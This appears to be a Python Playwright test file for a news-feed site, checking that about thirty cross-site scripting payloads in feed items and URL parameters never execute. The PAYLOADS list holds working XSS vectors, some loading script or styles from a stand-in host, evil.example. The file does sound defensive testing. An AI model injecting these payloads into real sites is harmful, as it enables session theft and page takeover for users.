"""Thirty ways to run a script from a feed or an address: no dialog, no report of the content policy."""

from collections.abc import AsyncIterator
from urllib.parse import quote

import msgspec
import pytest
import pytest_asyncio
from playwright.async_api import Browser

from ceasewire.items import Tagged
from tests.desk.browser import chromium, opened, refused
from tests.desk.site import serve
from tests.fakes.desk_news import ITEMS, source
from tests.fakes.desk_ports import World

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '" onmouseover="alert(1)" autofocus tabindex="1',
    "' onfocus='alert(1)' autofocus '",
    "</title><script>alert(1)</script>",
    "</textarea></template></dialog><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}} {% raw %}${alert(1)}",
    "<div hx-get=/feeds hx-trigger=load hx-on:load=alert(1) hx-vals='js:alert(1)'>",
    "\u202e\u2066<img/src/onerror=alert(1)>\u0000",
    "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
)
ADDRESSES = ("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", 'https://a.example/"onclick="alert(1)')


def hostile(number: int, payload: str) -> Tagged:
    """An item that carries the payload wherever a feed may put text."""
    by = source("odd_blog", payload[:100], "outlet", "<i>", "<b")
    item = msgspec.structs.replace(
        ITEMS[0].item,
        id=f"i_x{number}",
        source=by,
        title=payload,
        text=f"ceasefire {payload} ceasefire",
        url=ADDRESSES[number % len(ADDRESSES)],
    )
    return msgspec.structs.replace(ITEMS[0], item=item, mentions=(), language='"><script>alert(1)</script>')


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def browser() -> AsyncIterator[Browser]:
    async with chromium() as running:
        yield running


async def test_no_payload_runs_from_a_feed(browser: Browser) -> None:
    world = World(items=[hostile(number, payload) for number, payload in enumerate(PAYLOADS)])
    async with serve(world) as site, opened(browser) as (page, trouble):
        for path in ("/", "/?show=all", "/search?q=ceasefire", *(f"/items/i_x{n}" for n in range(len(PAYLOADS)))):
            await page.goto(site.address + path)
            assert await refused(page) == [], path
            shown = await page.locator("main").inner_text()
            assert "alert(1)" in shown or "evil.example" in shown or "onerror" in shown, path
            assert await page.locator("main script, main iframe, main img, main style, main base").count() == 0
        assert not trouble


async def test_no_payload_runs_from_an_address(browser: Browser) -> None:
    async with serve(World()) as site, opened(browser) as (page, trouble):
        for payload in PAYLOADS:
            for path in ("/search?q={}&after={}", "/volume?q={}&days={}"):
                await page.goto(site.address + path.format(quote(payload), quote(payload)))
                assert await refused(page) == [], (path, payload)
        assert not trouble


async def test_the_watch_itself_sees_a_script(browser: Browser) -> None:
    """The two tests above can fail: what they look for is seen when it is there."""
    async with serve(World()) as site, opened(browser) as (page, trouble):
        await page.goto(site.address)
        await page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>')")
        await page.wait_for_function("window.__refused.length > 0")
        assert any("script-src" in report for report in await refused(page))
        assert trouble.errors
